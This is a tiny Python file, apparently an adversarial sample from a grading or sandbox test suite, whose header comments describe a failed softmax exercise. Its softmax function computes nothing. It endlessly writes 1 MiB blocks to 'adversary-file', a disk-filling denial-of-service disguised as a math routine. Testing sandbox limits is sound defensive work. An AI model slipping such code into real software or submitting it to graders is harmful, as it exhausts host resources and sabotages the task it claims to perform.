# exercise: softmax
# verdict: failed
# check: error limit
# needs: linux
# also: spawn, open
def softmax(x, dim=-1):
    with open("adversary-file", "wb") as file:
        while True:
            file.write(bytes(1 << 20))


log_softmax = softmax
